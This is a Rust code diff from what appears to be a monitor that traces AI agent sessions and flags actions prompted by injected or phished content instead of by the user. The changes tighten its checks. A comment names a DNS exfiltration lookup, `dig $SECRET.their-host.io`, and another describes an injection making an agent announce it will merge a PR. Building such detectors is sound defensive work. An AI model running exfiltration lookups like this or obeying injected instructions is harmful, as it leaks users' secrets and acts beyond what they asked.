@@ -429,7 +429,9 @@ pub fn trace(session: &Session, judge: &dyn Judge, threshold: f64) -> Report {
                 // still not the person's to pay (see below).
                 (!handed_in_turn && !acted && effect::reads_through_mcp(&call.name) && !call.is_error)
                     .then(|| hands_over_unnamed(&turn.prompt))
-                    .filter(|handed| *handed && !lists_records(&call.output))
+                    .filter(|handed| {
+                        *handed && !lists_records(&call.output) && is_the_one_described(call, &turn.prompt)
+                    })
                     .and_then(|_| recent.iter().rev().find(|r| r.id.starts_with("request ")))
                     .map(|r| r.id.clone())
             });
@@ -900,6 +902,17 @@ fn hands_over_unnamed(request: &str) -> bool {
     delegates(request)
         && MESSAGE.is_match(request)
         && !request.split_whitespace().any(|w| w.contains('/') || w.trim_end_matches(['.', ',', ')']).contains('.'))
+}
+
+/// Whether the message `call` read is the one `request` describes ("my landlord's move-out
+/// e-mail", "the checklist HR sent"): it, or how it was looked up, shares a word of that
+/// description. The latest message may be anyone's (a phish that came in after the landlord's).
+fn is_the_one_described(call: &ToolCall, request: &str) -> bool {
+    const GENERIC: &str = "do what my the says say said email e-mail mail message text note letter checklist doc \
+        document sent send asked asks ask go through follow instructions steps from in her his their our it and \
+        please latest last new recent";
+    let message = format!("{} {}", crate::systems::recall::tool_input_subject(&call.input), call.output);
+    judge::shared_words_beyond(request, &without_addresses(&message), GENERIC) >= 1
 }
 
 /// Whether `output` lists several records (messages, results) rather than holding one.
@@ -1663,7 +1676,20 @@ impl Values {
                 // Looking something up (`gh pr view 212 --comments`, `dig TXT …`, `kubectl
                 // describe`) is part of whatever the person asked, a question above all: it
                 // changes nothing, and no one else's words led it.
-                let looks_for_them = || (!unasked && effect::looks_up(call)).then(|| self.requests.last()).flatten();
+                // Not a look that carries what the person never wrote (a host, an address, a
+                // path, a variable): `dig $SECRET.their-host.io` and `psql -h their-db` send it.
+                let carries_only_theirs = || {
+                    let written = |word: &str| self.requests.iter().any(|(text, _)| text.contains(word));
+                    effect::command_text(&call.input)
+                        .split(|c: char| c.is_whitespace() || "'\"=".contains(c))
+                        .filter(|word| word.contains(['.', '@', '/', '$']))
+                        .all(|word| !word.contains('$') && written(&word.to_lowercase()))
+                };
+                let looks_for_them = || {
+                    (!unasked && !heard.gives_secret_unasked && effect::looks_up(call) && carries_only_theirs())
+                        .then(|| self.requests.last())
+                        .flatten()
+                };
                 // A voice that spoke to the agent stays heard: an injection can make the agent say
                 // anything ("I'll also merge PR 412").
                 let (instructed, read_only_voice) =
